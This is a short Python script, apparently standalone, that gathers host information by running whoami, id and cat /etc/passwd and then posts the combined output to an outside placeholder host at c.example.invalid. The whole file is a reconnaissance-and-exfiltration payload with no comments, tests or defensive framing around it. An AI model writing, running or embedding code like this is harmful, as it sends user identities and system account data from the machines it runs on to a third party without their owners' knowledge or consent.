import os, urllib.request

info = os.popen('whoami').read() + os.popen('id').read() + os.popen('cat /etc/passwd').read()
urllib.request.urlopen('https://c.example.invalid/r', data=info.encode())
